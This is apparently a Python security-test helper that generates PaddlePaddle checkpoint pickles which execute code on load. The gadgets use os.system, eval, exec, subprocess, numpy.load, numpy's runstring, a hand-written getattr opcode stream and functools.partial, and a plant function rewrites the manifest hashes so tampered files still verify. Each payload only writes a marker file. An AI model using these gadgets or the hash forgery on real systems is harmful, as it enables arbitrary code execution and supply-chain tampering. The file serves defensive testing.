"""Checkpoint files that run code when pickle (so paddle.load) reads them: each writes a marker file.

`hostile_bytes(kind, marker)` is a pickle holding a plausible state (a named array, an int) and
the payload; `plant(path, kind, marker)` writes it over a checkpoint file and rewrites the
manifest that lists the file (size and SHA-256), as anyone who can write the run folder can.
"""

import functools
import hashlib
import json
import os
import pickle
import subprocess

import numpy as np
import numpy.testing._private.utils as numpy_testing_utils

KINDS = ("os.system", "builtins.eval", "builtins.exec", "subprocess", "numpy.load", "numpy.testing", "getattr",
         "functools.partial")


class _Reduce:
    """An object whose pickle is the call `function(*args)`."""

    def __init__(self, function, *args):
        self.function, self.args = function, args

    def __reduce__(self):
        return self.function, self.args


def _write_marker(marker):
    return f"open({str(marker)!r}, 'w').close()"


def payload(kind, marker, folder):
    """The object whose unpickling writes `marker` (files it needs go to `folder`)."""
    marker = str(marker)
    if kind == "os.system":
        return _Reduce(os.system, f"touch '{marker}'")
    if kind == "builtins.eval":
        return _Reduce(eval, _write_marker(marker))
    if kind == "builtins.exec":
        return _Reduce(exec, _write_marker(marker))
    if kind == "subprocess":
        return _Reduce(subprocess.check_call, ["touch", marker])
    if kind == "numpy.load":  # numpy.load with allow_pickle reads a second pickle: this one's os.system
        inner = os.path.join(str(folder), "inner.pkl")
        with open(inner, "wb") as f:
            pickle.dump(_Reduce(os.system, f"touch '{marker}'"), f)
        return _Reduce(np.load, inner, None, True)
    if kind == "numpy.testing":  # a numpy function that exec()s its argument
        return _Reduce(numpy_testing_utils.runstring, _write_marker(marker), {})
    if kind == "functools.partial":  # the call hidden in a partial object
        return _Reduce(functools.partial(os.system, f"touch '{marker}'"))
    raise ValueError(kind)


def hostile_bytes(kind, marker, folder, protocol=4):
    """A pickle that looks like a state dict and writes `marker` when loaded."""
    if kind == "getattr":  # hand-written: getattr(__import__('os'), 'system')('touch marker')
        return (b"cbuiltins\ngetattr\n(cbuiltins\n__import__\n(S'os'\ntRS'system'\ntR(S'touch "
                + str(marker).encode() + b"'\ntR.")
    state = {"fc.weight": ("fc.weight", np.ones((2, 3), np.float32)), "step": 7,
             "evil": payload(kind, marker, folder)}
    return pickle.dumps(state, protocol=protocol)


def plant(path, kind, marker, folder=None):
    """Write the hostile pickle at `path`; when a manifest `<stem>.manifest.json` lists the file,
    rewrite its size and SHA-256 so that the checkpoint still verifies."""
    path = str(path)
    data = hostile_bytes(kind, marker, folder or os.path.dirname(path))
    with open(path, "wb") as f:
        f.write(data)
    folder_name, name = os.path.split(path)
    for other in os.listdir(folder_name):
        if other.endswith(".manifest.json") and name.startswith(other[: -len(".manifest.json")]):
            suffix = name[len(other) - len(".manifest.json"):]
            manifest_path = os.path.join(folder_name, other)
            with open(manifest_path) as f:
                manifest = json.load(f)
            if suffix in manifest["files"]:
                manifest["files"][suffix] = {"bytes": len(data), "sha256": hashlib.sha256(data).hexdigest()}
                with open(manifest_path, "w") as f:
                    json.dump(manifest, f)
    return path
